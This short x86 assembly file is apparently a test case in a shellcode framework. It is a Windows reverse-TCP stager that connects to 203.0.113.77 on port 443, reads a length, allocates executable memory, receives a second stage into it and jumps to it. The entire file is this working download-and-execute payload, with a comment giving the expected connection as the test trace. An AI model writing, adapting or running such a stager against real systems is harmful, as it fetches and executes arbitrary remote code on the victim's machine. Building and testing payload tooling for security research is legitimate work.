; SPDX-License-Identifier: GPL-2.0-or-later
; A stage is asked for: what it would be is nobody's to know here, and the connection is the trace.
; expect: connect 203.0.113.77 443
%include "way32.inc"
	sub esp, 0x200
	mov edi, esp
	function "ws2_32.dll", "WSAStartup"
	push edi
	push 0x202
	call eax
	function "ws2_32.dll", "WSASocketA"
	push 0
	push 0
	push 0
	push 0
	push 1
	push 2
	call eax
	mov esi, eax
	mov dword [edi], 0xbb010002
	mov dword [edi + 4], 0x4d7100cb
	function "ws2_32.dll", "connect"
	push 16
	push edi
	push esi
	call eax
	function "ws2_32.dll", "recv"
	push 0
	push 4
	push edi
	push esi
	call eax
	function "kernel32.dll", "VirtualAlloc"
	push 0x40
	push 0x1000
	push dword [edi]
	push 0
	call eax
	mov edi, eax
.more:
	function "ws2_32.dll", "recv"
	push 0
	push 0x1000
	push edi
	push esi
	call eax
	test eax, eax
	jns .more
	jmp edi
